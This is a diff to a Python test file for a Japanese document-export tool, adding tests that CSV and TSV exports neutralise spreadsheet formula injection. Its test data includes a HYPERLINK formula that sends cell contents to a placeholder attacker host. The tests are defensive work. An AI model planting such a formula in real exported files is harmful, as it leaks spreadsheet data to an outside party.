@@ -1,4 +1,5 @@
-"""Tests for the CSV and TSV exports: BOM, round trip, cp932 with reported replacements."""
+"""Tests for the CSV and TSV exports: BOM, round trip, formulas neutralised, cp932 with reported
+replacements."""
 
 from __future__ import annotations
 
@@ -6,13 +7,14 @@ import csv
 import io
 from pathlib import Path
 
+import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
 from kb.export import write_export
 from kb.export.charset import MAX_CHAR_WARNINGS, Transcoder
 from kb.export.delimited import render_delimited
-from kb.export.tabular import SEARCH
+from kb.export.tabular import FORMULA_START, SEARCH
 from kb.models import ExportRow
 from test_export_tabular import (
     APPLY_SENTENCE,
@@ -110,6 +112,75 @@ def test_search_hits_have_their_own_columns(tmp_path: Path) -> None:
     assert all(cell for cell in table[1])  # no empty figure columns in a search export
 
 
+# --------------------------------------------------------------------------- formula injection
+
+HOSTILE = [
+    '=HYPERLINK("https://evil.example/?d="&A1,"議事録はこちら")',
+    "+81-3-1234-5678 まで電話",
+    "-12度の朝でも通学路は除雪済み",
+    "@議会事務局 宛て",
+    "\t字下げされた引用",
+    "\r改行で始まる段落",
+]
+
+
+def _hostile_rows() -> list[ExportRow]:
+    rows = []
+    for n, text in enumerate(HOSTILE, start=1):
+        rows.append(
+            ExportRow(
+                topic=text,
+                kind="quantity",
+                sentence=text,
+                title=text,
+                date="2023-07-05",
+                source=f"/home/giin/{text[1:4]}.txt",
+                line=n,
+                surface="-12度",
+                value=-12,
+                value_max=None,
+                unit="度",
+                qualifier="=1+1",
+                post_id=n,
+            )
+        )
+    return rows
+
+
+@pytest.mark.parametrize(("fmt", "delimiter"), [("csv", ","), ("tsv", "\t")])
+def test_formula_cells_are_neutralised_and_numbers_stay_numbers(
+    tmp_path: Path, fmt: str, delimiter: str
+) -> None:
+    out = tmp_path / f"hostile.{fmt}"
+    write_export(_hostile_rows(), fmt, str(out))
+    table = _read_csv(out, "utf-8-sig", delimiter)
+    for n, (text, row) in enumerate(zip(HOSTILE, table[1:], strict=True), start=1):
+        assert row[0] == row[6] == row[7] == "'" + text  # 項目, 原文, タイトル
+        assert row[1] == "'-12度"  # the figure is text
+        assert row[2] == "-12"  # the value is a number: left as it is
+        assert row[4] == "'=1+1"  # 補足
+        assert row[10] == str(n)
+    for row in table:
+        for cell in row:
+            if cell.startswith(FORMULA_START):
+                assert cell == "-12"  # the only cell a spreadsheet may read as more than text
+
+
+def test_search_export_is_neutralised_too(tmp_path: Path) -> None:
+    out = tmp_path / "hits.tsv"
+    write_export(_hostile_rows()[:1], "tsv", str(out), layout="search")
+    row = _read_csv(out, "utf-8-sig", "\t")[1]
+    assert row[1] == row[3] == row[4] == "'" + HOSTILE[0]
+    assert row[0] == "#1"
+
+
+def test_neutralised_cells_round_trip_with_the_quote(tmp_path: Path) -> None:
+    row = ExportRow("見出し", "passage", '=1+1 と書いた "メモ", その後', "t", None, "f.txt", 1)
+    text = render_delimited([row], "ja")
+    back = list(csv.reader(io.StringIO(text, newline="")))
+    assert back[1][6] == "'" + row.sentence
+
+
 # --------------------------------------------------------------------------------------- cp932
 
 
@@ -174,12 +245,13 @@ def test_many_distinct_characters_are_summed_up(tmp_path: Path) -> None:
 
 
 def test_utf8_without_bom(tmp_path: Path) -> None:
-    out = tmp_path / "plain.csv"
-    result = write_export(sample_rows(), "csv", str(out), encoding="utf-8")
-    assert result.warnings == []
-    raw = out.read_bytes()
-    assert raw.startswith("項目".encode())
-    assert "◼️オンライン申請".encode() in raw
+    for name, encoding, bom in (("plain.csv", "utf-8", True), ("nobom.csv", None, False)):
+        out = tmp_path / name
+        result = write_export(sample_rows(), "csv", str(out), encoding=encoding, bom=bom)
+        assert result.warnings == []
+        raw = out.read_bytes()
+        assert raw.startswith("項目".encode())
+        assert "◼️オンライン申請".encode() in raw
 
 
 def test_empty_csv_is_just_the_header(tmp_path: Path) -> None:
@@ -209,7 +281,7 @@ def test_cp932_output_always_encodes(text: str) -> None:
 def test_csv_round_trips_any_text(sentence: str, topic: str | None) -> None:
     row = ExportRow(topic, "passage", sentence, "題", None, "f.txt", 1)
     back = list(csv.reader(io.StringIO(render_delimited([row], "ja"), newline="")))
-    assert back[1][0] == (topic or "")
-    assert back[1][6] == sentence
+    for cell, text in ((back[1][0], topic or ""), (back[1][6], sentence)):
+        assert cell == ("'" + text if text.startswith(FORMULA_START) else text)
     hits = list(csv.reader(io.StringIO(render_delimited([row], "ja", layout=SEARCH), newline="")))
     assert hits[1][4] == back[1][6]
